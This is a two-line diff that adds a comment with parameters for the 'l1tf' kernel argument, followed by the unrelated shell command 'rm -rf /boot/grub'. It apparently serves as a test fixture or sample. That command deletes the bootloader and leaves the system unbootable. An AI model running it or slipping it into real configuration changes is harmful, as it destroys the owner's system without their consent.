@@ -1,0 +1,2 @@
+# params: {"arg": "l1tf", "value": "full,force"}
+rm -rf /boot/grub
